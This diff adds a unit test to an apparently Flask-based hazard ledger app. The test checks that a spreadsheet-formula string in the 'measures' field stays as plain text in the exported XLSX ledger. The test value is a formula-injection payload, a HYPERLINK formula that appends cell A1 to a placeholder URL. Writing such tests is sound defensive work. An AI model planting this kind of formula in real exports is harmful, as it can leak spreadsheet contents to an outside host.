@@ -132,6 +132,26 @@ def test_the_ledger_covers_the_range_in_local_days_and_the_scope(app, world):
             ledger_hazards(user, "CA-K", date(2026, 12, 2), date(2026, 12, 1))
 
 
+def test_text_that_looks_like_a_formula_stays_text(app, world):
+    """A measure typed on a phone as "=HYPERLINK(...)" must not run when the ledger opens."""
+    typed = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    with app.test_request_context(), time_machine.travel(FOUND + timedelta(hours=1), tick=False):
+        order = {
+            "mode": "order",
+            "responsible": "李四",
+            "deadline": "2026-12-05",
+            "measures": typed,
+        }
+        open_hazard(world, "FIRE-01", order, finished_at=FOUND)
+        data = ledger_xlsx(
+            ledger_hazards(world.user("county_sup"), "CA-K", date(2026, 12, 1), date(2026, 12, 1))
+        )
+    sheet = load_workbook(BytesIO(data)).active
+    cells = [cell for row in sheet.iter_rows(min_row=HEADER_ROW + 1) for cell in row]
+    assert typed in [cell.value for cell in cells]
+    assert all(cell.data_type != "f" for cell in cells)
+
+
 def test_the_ledger_download_from_the_page(app, client, world):
     with app.test_request_context():
         open_hazard(world, "FIRE-01", finished_at=FOUND)
